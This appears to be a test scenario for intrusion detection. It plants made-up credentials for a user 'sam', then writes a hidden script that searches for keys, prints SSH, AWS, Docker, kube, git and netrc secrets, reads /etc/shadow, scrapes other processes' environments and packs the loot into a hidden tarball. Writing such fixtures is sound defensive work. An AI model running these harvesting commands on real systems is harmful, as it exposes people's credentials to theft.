# Somebody who came in as sam looks for secrets: keys, cloud credentials, tokens, passwords in configuration and in the
# environment of other processes, /etc/shadow without success. What was found is packed for taking away.
directory=/tmp
command=(bash /tmp/.look.sh)

prepare() {
    local home=/home/sam
    mkdir -p $home/.ssh $home/.aws $home/.docker $home/.kube $home/.mozilla/firefox/x.default $home/shop
    echo 'made-up private key' >$home/.ssh/id_ed25519
    echo 'ssh-ed25519 made-up sam@sample' >$home/.ssh/id_ed25519.pub
    printf '[default]\naws_secret_access_key = made-up\n' >$home/.aws/credentials
    echo '{"auths":{"registry.example":{"auth":"made-up"}}}' >$home/.docker/config.json
    echo 'users: [{name: sam, user: {token: made-up}}]' >$home/.kube/config
    echo 'https://sam:made-up@git.example' >$home/.git-credentials
    echo 'machine ftp.example login sam password made-up' >$home/.netrc
    echo 'DATABASE_PASSWORD=made-up' >$home/shop/.env
    echo '{"logins":[]}' >$home/.mozilla/firefox/x.default/logins.json
    printf 'ls\nmysql -p made-up\n' >$home/.bash_history
    chmod 700 $home/.ssh
    chmod 600 $home/.ssh/id_ed25519 $home/.aws/credentials $home/.git-credentials $home/.netrc

    cat >/tmp/.look.sh <<'END'
#!/bin/bash
cd
find / -xdev \( -path /usr -o -path /proc -o -path /opt \) -prune -o \
    \( -name 'id_*' -o -name '*.pem' -o -name .env -o -name credentials -o -name '*.kdbx' \) -print 2>/dev/null
cat .ssh/id_ed25519
cat .aws/credentials .docker/config.json .kube/config
cat .git-credentials .netrc
grep -rniE 'password|secret|token' /home /srv 2>/dev/null
grep -i -- '-p ' .bash_history
cat .mozilla/firefox/x.default/logins.json
cat /etc/shadow
for process in /proc/[0-9]*; do
    tr '\0' '\n' < "$process/environ" | grep -iE 'key|token|pass'
done 2>/dev/null
tar -czf /tmp/.found.tgz .ssh .aws .docker .kube .netrc .git-credentials shop/.env
ls -l /tmp/.found.tgz
END
    chown -R sam: $home /tmp/.look.sh
}
